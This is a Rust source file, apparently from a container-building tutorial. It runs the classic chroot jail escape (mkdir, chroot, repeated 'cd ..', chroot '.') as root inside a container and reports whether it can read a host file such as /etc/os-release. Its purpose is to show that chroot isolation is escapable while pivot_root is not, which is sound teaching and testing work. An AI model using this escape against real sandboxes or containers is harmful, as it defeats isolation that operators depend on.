//! # breakout: the classic chroot escape, tried from inside a container
//!
//! chroot(2) NOTES: "This call does not change the current working directory, so that after
//! the call '.' can be outside the tree rooted at '/'. In particular, the superuser can
//! escape from a 'chroot jail' by doing: mkdir foo; chroot foo; cd .."
//!
//! Run as root inside a container (uid 0 of its user namespace is enough), this program
//! tries exactly that, then reports whether it can read a file of the host: in step 05
//! (`chroot`) it can, in step 06 (`pivot_root`) it cannot. busybox's own `chroot` applet
//! cannot show this, because it changes directory to the new root.
//!
//! It must be a *static* binary: inside the container there is no C library to load.
//! `just breakout N` builds it so and runs it in step N.
//!
//! Usage: `breakout [HOST_FILE]` (default `/etc/os-release`, which a busybox rootfs lacks).

use std::os::fd::AsFd;
use std::process::ExitCode;

use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use nix::unistd::{UnlinkatFlags, chdir, chroot, mkdir, unlinkat};

/// Where the jail is made, inside the container (the rootfs must let root write there).
const JAIL: &str = "/tmp/.breakout-jail";

fn main() -> ExitCode {
    let host_file = std::env::args()
        .nth(1)
        .unwrap_or_else(|| "/etc/os-release".into());
    // Keep a handle on the container's root, to clean up afterwards.
    let root = match open("/", OFlag::O_PATH | OFlag::O_DIRECTORY, Mode::empty()) {
        Ok(root) => root,
        Err(errno) => {
            eprintln!("breakout: cannot open /: {errno}");
            return ExitCode::from(2);
        }
    };
    let result = escape();
    let _ = unlinkat(root.as_fd(), "tmp/.breakout-jail", UnlinkatFlags::RemoveDir);
    if let Err(why) = result {
        eprintln!("breakout: {why}");
        return ExitCode::from(2);
    }
    match std::fs::read_to_string(&host_file) {
        Ok(text) => println!(
            "ESCAPED to the host's root: read its {host_file} ({} bytes)",
            text.len()
        ),
        Err(error) => println!("contained: no {host_file} up there ({error})"),
    }
    ExitCode::SUCCESS
}

/// mkdir jail; chroot jail; cd .. (many times); chroot .
fn escape() -> Result<(), String> {
    match mkdir(JAIL, Mode::from_bits_truncate(0o700)) {
        Ok(()) | Err(nix::errno::Errno::EEXIST) => {}
        Err(errno) => return Err(format!("cannot create {JAIL}: {errno}")),
    }
    // Our root is now the jail, but the working directory stays where it was: outside it.
    chroot(JAIL)
        .map_err(|errno| format!("chroot {JAIL}: {errno} (run me as root in a container)"))?;
    // ".." stops only at our root, and the working directory never meets it: climb up to the
    // top of the mount namespace.
    for _ in 0..64 {
        chdir("..").map_err(|errno| format!("chdir ..: {errno}"))?;
    }
    // Make wherever we arrived our root.
    chroot(".").map_err(|errno| format!("chroot .: {errno}"))?;
    Ok(())
}
